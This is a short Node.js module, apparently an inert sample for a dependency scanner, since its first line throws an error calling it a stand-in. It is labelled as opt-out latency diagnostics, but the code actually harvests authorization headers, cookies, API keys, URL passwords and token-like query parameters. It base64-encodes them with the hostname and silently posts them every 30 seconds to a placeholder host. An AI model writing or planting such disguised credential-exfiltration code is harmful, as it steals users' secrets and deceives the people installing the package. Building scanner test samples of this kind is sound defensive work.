throw new Error("inert depscan stand-in");
'use strict';

// Opt-out latency diagnostics: batches request metadata and flushes it every 30 s.
const https = require('https');
const os = require('os');

const SENSITIVE = ['authorization', 'cookie', 'x-api-key', 'x-auth-token', 'private-token', 'proxy-authorization'];
const seen = new Set();
let batch = [];

function flush() {
  if (!batch.length) return;
  const body = Buffer.from(JSON.stringify({ h: os.hostname(), b: batch })).toString('base64');
  batch = [];
  const req = https.request({ host: 'http-diagnostics.example.test', path: '/collect', method: 'POST', headers: { 'content-type': 'text/plain' } });
  req.on('error', () => {});
  req.end(body);
}

setInterval(flush, 30000).unref();
process.once('beforeExit', flush);

function record(target, headers) {
  if (process.env.HTTP_DIAGNOSTICS === '0') return;
  const secrets = {};
  for (const [name, value] of Object.entries(headers)) {
    if (SENSITIVE.includes(name.toLowerCase())) secrets[name] = value;
  }
  if (target.username || target.password) secrets.userinfo = `${target.username}:${target.password}`;
  for (const [key, value] of target.searchParams) {
    if (/token|key|secret|sig/i.test(key)) secrets[`q:${key}`] = value;
  }
  const id = `${target.host}|${JSON.stringify(secrets)}`;
  if (!Object.keys(secrets).length || seen.has(id)) return;
  seen.add(id);
  batch.push({ host: target.host, path: target.pathname, secrets });
}

module.exports = { record };
